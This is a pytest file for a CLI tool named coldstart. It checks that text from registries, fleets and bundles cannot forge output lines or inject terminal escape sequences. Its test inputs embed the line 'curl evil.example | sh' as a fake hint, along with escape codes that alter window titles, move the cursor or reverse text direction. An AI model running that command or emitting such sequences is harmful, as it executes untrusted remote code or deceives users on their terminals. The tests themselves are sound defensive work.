"""Text from a registry, a fleet or a bundle forges no line of coldstart's own and reaches no terminal with escape sequences."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from coldstart.artifacts.key import Key
from coldstart.artifacts.store import Store
from coldstart.commands import cli
from coldstart.commands._output import Output, escape_line, format_table, print_error
from tools.bundles import key, publish
from tools.raw_server import answer, answering, say
from tools.shell import Run

from coldstart.errors import CommandFailedError
from coldstart.system.paths import Cache

FORGED = "denied\nhint: curl evil.example | sh\r\n\thint: \x1b[1mit\u2028hint: it"
SHOWN = "denied\\nhint: curl evil.example | sh\\r\\n\\thint: \\x1b[1mit\\u2028hint: it"


def _own(stderr: str) -> list[str]:
    return [line.partition(":")[0] for line in stderr.splitlines()]


def test_registry_error_appears_on_one_line(run: Run) -> None:
    body = json.dumps({"errors": [{"code": "DENIED", "message": FORGED}]}).encode()
    for status in (401, 403, 500):
        with answering(lambda c, _, status=status: answer(c, status, {}, body)) as server:  # type: ignore[misc]
            done = run("pull", f"oci://{server.address}/a/b", code=None)
        lines = [line for line in done.stderr.splitlines() if "evil.example" in line]
        assert done.returncode != 0 and all(line.startswith("error: ") for line in lines)
        assert _own(done.stderr).count("hint") == 1


def test_fleet_error_and_hint_appear_on_one_line_each(run: Run) -> None:
    with answering(lambda c, _: say(c, {"error": {"message": FORGED, "hint": FORGED}}, 400)) as server:
        done = run("fleet", "status", "--url", server.url, code=1)
    assert done.stderr == f"error: the fleet refused the request: {SHOWN}\nhint: {SHOWN}\n"


def test_fleet_status_has_a_line_for_each_server_only(run: Run) -> None:
    gateway = {
        "url": FORGED,
        "pid": 1,
        "uptime_s": 1.0,
        "requests": 0,
        "held": 0,
        "in_flight": 0,
        "readmitted": 0,
        "refused": {},
    }
    model = {"name": FORGED, "least": 0, "most": 1, "waiting": 0, "error": FORGED, "groups": []}
    found = {
        "gateway": gateway,
        "servers": [],
        "unusable": {FORGED: FORGED},
        "models": [model],
    }
    with answering(lambda c, _: say(c, found)) as server:
        assert len(run("fleet", "status", "--url", server.url).stdout.splitlines()) == 3


def test_lines_of_our_own_keep_their_form(capsys: pytest.CaptureFixture[str]) -> None:
    cli._report_error(
        CommandFailedError(
            ["It ended. Its log:", "ValueError: x", "hint: evil", "a\nb"], hint="coldstart doctor"
        )
    )
    assert capsys.readouterr().err == (
        "error: It ended. Its log:\n  ValueError: x\n  hint: evil\n  a\\nb\nhint: coldstart doctor\n"
    )


def test_notes_warnings_and_cells_stay_on_their_lines(capsys: pytest.CaptureFixture[str]) -> None:
    out = Output(verbose=True)
    for write in (out.print_note, out.warn, out.print_details):
        write(FORGED)
    out.print_success(FORGED, where=FORGED, then=FORGED)
    print_error([FORGED], FORGED)
    assert len(capsys.readouterr().err.splitlines()) == 6
    assert len(format_table(("a",), [(FORGED,)]).splitlines()) == 2
    assert escape_line(FORGED) == SHOWN


# Window title, colours, cursor movement, C1 controls, right-to-left override, bell.
EVIL = "\x1b]0;owned\x07\x1b[31m\x1b[2A\x9b31m\u202eevil\u2066\x08\x7f\u200b"
BAD = ["\x1b", "\x07", "\x08", "\x7f", "\x9b", "\u202e", "\u2066", "\u200b"]


def _clean(text: str) -> None:
    found = [character for character in BAD if character in text]
    assert not found, found


def test_registry_error_is_shown_without_escapes(run: Run) -> None:
    body = EVIL.encode()
    with answering(lambda c, _: answer(c, 500, {}, body)) as server:
        done = run("pull", f"oci://{server.address}/a/b", code=2)
    _clean(done.stderr)
    assert "500" in done.stderr and "\\x1b]0;owned" in done.stderr


@pytest.mark.parametrize("command", [("list",), ("inspect", "org/tiny"), ("inspect", "org/tiny", "--key")])
def test_key_is_shown_without_escapes(command: tuple[str, ...], run: Run, home: Path) -> None:
    wanted = Key(dict(key().fields) | {"engine.note": EVIL})
    publish(Store(Cache.at().bundles), home / "s", wanted)
    done = run(*command, code=None)
    _clean(done.stdout + done.stderr)
    if "--key" in command:
        assert "\\x1b]0;owned" in done.stdout
    as_json = run(*command, "--format=json", code=None).stdout
    _clean(as_json)
    json.loads(as_json)


def test_escape_control_characters_keeps_harmless_text() -> None:
    from coldstart.commands._output import escape_control_characters

    assert escape_control_characters("naïve 模型 → 1 µs\n\ttab") == "naïve 模型 → 1 µs\n\ttab"
    assert escape_control_characters("\ud800") == "\\ud800"
